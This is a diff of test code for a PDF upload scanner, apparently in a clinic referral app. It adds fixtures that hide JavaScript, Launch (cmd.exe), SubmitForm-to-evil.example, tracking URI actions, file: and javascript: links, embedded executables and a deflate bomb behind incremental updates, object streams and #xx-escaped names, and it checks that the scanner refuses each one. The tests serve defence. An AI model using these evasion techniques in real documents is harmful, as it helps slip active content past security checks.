@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { buildReferralForm } from "../../server/referral-form";
 import { PDF_ACTIVE_CONTENT, PDF_UNREADABLE, scanRaw } from "../../server/uploads/pdf-check";
 import { createTestApp, type TestApp } from "../helpers/app";
+import { RawPdf } from "../helpers/raw-pdf";
 import { multipartBody, pdfBytes } from "../helpers/requests";
 
 /**
@@ -42,6 +43,42 @@ function objectStreamPdf(catalog: string): Buffer {
 
 const action = (doc: PDFDocument, entries: Record<string, unknown>) =>
   doc.context.obj(entries as never) as unknown as PDFDict;
+
+/** Objects 2 and 3 of the hand-written files: the page tree and its one page. */
+const PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
+const PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>";
+const catalog = (extra = "") => `<</Type/Catalog/Pages 2 0 R${extra}>>`;
+const RUN_SCRIPT = "/OpenAction<</S/JavaScript/JS(app.alert(1))>>";
+
+/**
+ * A plain document (classic xref, %%EOF), then an update appended after it:
+ * an object stream without /Type /ObjStm, reached only through the update's
+ * xref stream, holding new versions of `members` (a reader uses them; a parse
+ * in file order sees an ordinary stream).
+ */
+function appendedUpdate(members: [number, string][], extra: (pdf: RawPdf) => void = () => undefined): Buffer {
+  const pdf = new RawPdf().object(1, catalog()).object(2, PAGES).object(3, PAGE).xrefTable("/Root 1 0 R");
+  extra(pdf);
+  return pdf.objectStream(10, members, { typed: false }).xrefStream(11, "/Root 1 0 R").bytes();
+}
+
+const HIDDEN: [string, [number, string][], ((pdf: RawPdf) => void)?][] = [
+  ["JavaScript run on opening", [[1, catalog(RUN_SCRIPT)]]],
+  ["JavaScript named with #xx escapes", [[1, catalog("/Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>")]]],
+  ["a Launch action", [[1, catalog("/OpenAction<</S/Launch/F(cmd.exe)>>")]]],
+  ["a SubmitForm action", [[1, catalog("/OpenAction<</S/SubmitForm/F(https://evil.example/)>>")]]],
+  ["an ImportData action", [[1, catalog("/OpenAction<</S/ImportData/F(data.fdf)>>")]]],
+  ["a GoToR action", [[1, catalog("/OpenAction<</S/GoToR/F(x.pdf)/D[0/Fit]>>")]]],
+  [
+    "a RichMedia annotation",
+    [[3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]>>"]],
+  ],
+  [
+    "an embedded file",
+    [[1, catalog("/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>")]],
+    (pdf) => pdf.stream(9, "", Buffer.from("MZ not really a program")),
+  ],
+];
 
 const ACTIVE: [string, (doc: PDFDocument) => void | Promise<void>][] = [
   [
@@ -146,6 +183,127 @@ describe("PDFs with active content", () => {
     expect((await upload(objectStreamPdf("<</Type/Catalog/Pages 3 0 R>>"))).statusCode).toBe(201);
   });
 
+  /** Issue 20: the check must see what a reader sees, which follows the xref, not the file order. */
+  const refusedAsActive = async (pdf: Buffer) => {
+    const [beforeFiles, beforeRows] = [files(), await rows()];
+    const res = await upload(pdf);
+    expect(res.statusCode).toBe(415);
+    expect(res.json()).toEqual({ message: PDF_ACTIVE_CONTENT, errors: { file: PDF_ACTIVE_CONTENT } });
+    expect(files()).toEqual(beforeFiles);
+    expect(await rows()).toBe(beforeRows);
+  };
+
+  it("refuses a catalog the xref points at (in an object stream) whose script a later object with the same number hides", async () => {
+    const pdf = new RawPdf()
+      .object(2, PAGES)
+      .object(3, PAGE)
+      .objectStream(4, [[1, catalog(RUN_SCRIPT)]])
+      .object(1, catalog(), { register: false })
+      .xrefStream(5, "/Root 1 0 R")
+      .bytes();
+    expect(scanRaw(pdf)).toBeNull();
+    await refusedAsActive(pdf);
+  });
+
+  it("refuses an incremental update whose xref points the catalog back at a scripted version the first xref left unused", async () => {
+    const pdf = new RawPdf()
+      .object(2, PAGES)
+      .object(3, PAGE)
+      .objectStream(4, [[1, catalog(RUN_SCRIPT)]], { register: false })
+      .object(1, catalog())
+      .xrefStream(5, "/Root 1 0 R")
+      .pack(1, 4, 0)
+      .xrefStream(6, "/Root 1 0 R")
+      .bytes();
+    await refusedAsActive(pdf);
+  });
+
+  it.each(HIDDEN)(
+    "refuses %s appended after the end of the file in an object stream that only the new xref stream names",
+    async (_label, members, extra) => {
+      const pdf = appendedUpdate(members, extra);
+      expect(scanRaw(pdf)).toBeNull();
+      await refusedAsActive(pdf);
+    },
+  );
+
+  it("refuses automatic actions that are not a plain GoTo: on opening, on a page, on a form field, names disguised", async () => {
+    const disguised = new RawPdf()
+      .object(1, catalog("/Open#41ction<</S/U#52I/URI(https://tracker.example/opened)>>"))
+      .object(2, PAGES)
+      .object(3, PAGE)
+      .xrefTable("/Root 1 0 R")
+      .bytes();
+    await refusedAsActive(disguised);
+    // Opening a web page by itself when the file opens tells the sender who read it, and when.
+    await refusedAsActive(
+      await makePdf((doc) =>
+        doc.catalog.set(
+          PDFName.of("OpenAction"),
+          action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") }),
+        ),
+      ),
+    );
+    await refusedAsActive(
+      await makePdf((doc) =>
+        doc.getPage(0).node.set(PDFName.of("AA"), action(doc, { O: action(doc, { S: "Named", N: "Print" }) })),
+      ),
+    );
+    await refusedAsActive(
+      await makePdf((doc) => {
+        const field = doc.getForm().createTextField("patient_surname");
+        field.addToPage(doc.getPage(0), { x: 20, y: 20, width: 100, height: 20 });
+        field.acroField
+          .getWidgets()[0]!
+          .dict.set(
+            PDFName.of("AA"),
+            action(doc, { Fo: action(doc, { S: "URI", URI: PDFString.of("https://tracker.example/focus") }) }),
+          );
+      }),
+    );
+  });
+
+  it.each([
+    ["javascript:", PDFString.of("javascript:app.alert(1)")],
+    [
+      "JavaScript: with spaces and a tab, as a hex string",
+      PDFHexString.of(Buffer.from(" Java\tScript:app.alert(1)").toString("hex")),
+    ],
+    ["file:", PDFString.of("file:///C:/Windows/System32/calc.exe")],
+  ])("refuses a link whose /URI is %s", async (_label, uri) => {
+    const pdf = await makePdf((doc) =>
+      doc.getPage(0).node.set(
+        PDFName.of("Annots"),
+        doc.context.obj([
+          action(doc, {
+            Type: "Annot",
+            Subtype: "Link",
+            Rect: [0, 0, 50, 20],
+            A: action(doc, { S: "URI", URI: uri }),
+          }),
+        ]),
+      ),
+    );
+    await refusedAsActive(pdf);
+  });
+
+  it("refuses an object stream that inflates past the cap, quickly", async () => {
+    // 64 MB of spaces in about 64 KB: a "zip bomb" inside a PDF.
+    const bomb = zlib.deflateSync(Buffer.concat([Buffer.from("1 0 "), Buffer.alloc(64 * 1024 * 1024, 0x20)]));
+    const pdf = new RawPdf()
+      .object(2, PAGES)
+      .object(3, PAGE)
+      .stream(4, "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", bomb)
+      .pack(1, 4, 0)
+      .xrefStream(5, "/Root 1 0 R")
+      .bytes();
+    const started = performance.now();
+    const res = await upload(pdf);
+    expect(performance.now() - started).toBeLessThan(2000);
+    expect(res.statusCode).toBe(415);
+    expect(res.json().message).toBe(PDF_UNREADABLE);
+  });
+
   it("refuses active content whose name is disguised with #xx escapes, and a PDF that does not parse", async () => {
     const disguised = Buffer.from(
       "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
@@ -174,13 +332,54 @@ describe("PDFs with active content", () => {
     expect((await upload(Buffer.from(await filled.save()), "filled.pdf")).statusCode).toBe(201);
     expect((await upload(await makePdf(() => undefined))).statusCode).toBe(201);
     expect((await upload(pdfBytes(5000))).statusCode).toBe(201);
-    // A link to a web page (/URI) is not active content.
-    const link = await makePdf((doc) =>
+    // A link to a web page or an e-mail address (/URI), followed when clicked, is not active content.
+    const link = (uri: string) =>
+      makePdf((doc) =>
+        doc.getPage(0).node.set(
+          PDFName.of("Annots"),
+          doc.context.obj([
+            action(doc, {
+              Type: "Annot",
+              Subtype: "Link",
+              Rect: [0, 0, 50, 20],
+              A: action(doc, { S: "URI", URI: PDFString.of(uri) }),
+            }),
+          ]),
+        ),
+      );
+    expect((await upload(await link("https://clinic.example.org/"))).statusCode).toBe(201);
+    expect((await upload(await link("mailto:referrals@clinic.example.org"))).statusCode).toBe(201);
+  });
+
+  it("accepts an opening action that only goes to a page: a GoTo action or a destination array", async () => {
+    const goTo = await makePdf((doc) =>
       doc.catalog.set(
         PDFName.of("OpenAction"),
-        action(doc, { S: "URI", URI: PDFString.of("https://clinic.example.org/") }),
+        action(doc, { S: "GoTo", D: doc.context.obj([doc.getPage(0).ref, "Fit"]) }),
       ),
     );
-    expect((await upload(link)).statusCode).toBe(201);
+    expect((await upload(goTo)).statusCode).toBe(201);
+    const destination = await makePdf((doc) =>
+      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, "XYZ", null, null, 0])),
+    );
+    expect((await upload(destination)).statusCode).toBe(201);
+  });
+
+  it("accepts our form filled in and saved as an incremental update (as Acrobat saves it), objects renumbered in streams", async () => {
+    const ours = await buildReferralForm(t.config);
+    const doc = await PDFDocument.load(ours, { forIncrementalUpdate: true });
+    doc.getForm().getTextField("patient_surname").setText("Molefhe");
+    const once = Buffer.from(await doc.commit());
+    // Two sections, two %%EOF markers, object numbers defined twice: all legitimate.
+    expect(once.toString("latin1").match(/%%EOF/g)?.length).toBeGreaterThanOrEqual(2);
+    expect((await upload(once, "filled.pdf")).statusCode).toBe(201);
+    doc.getForm().getTextField("doctor_name").setText("Dr Sebego");
+    expect((await upload(Buffer.from(await doc.commit()), "filled-twice.pdf")).statusCode).toBe(201);
+    // Without object streams too (a classic xref table in each section).
+    const classic = await PDFDocument.load(ours, { forIncrementalUpdate: true });
+    classic.getForm().getTextField("patient_surname").setText("Molefhe");
+    expect(
+      (await upload(Buffer.from(await classic.commit({ useObjectStreams: false })), "classic.pdf")).statusCode,
+    ).toBe(201);
   });
 });
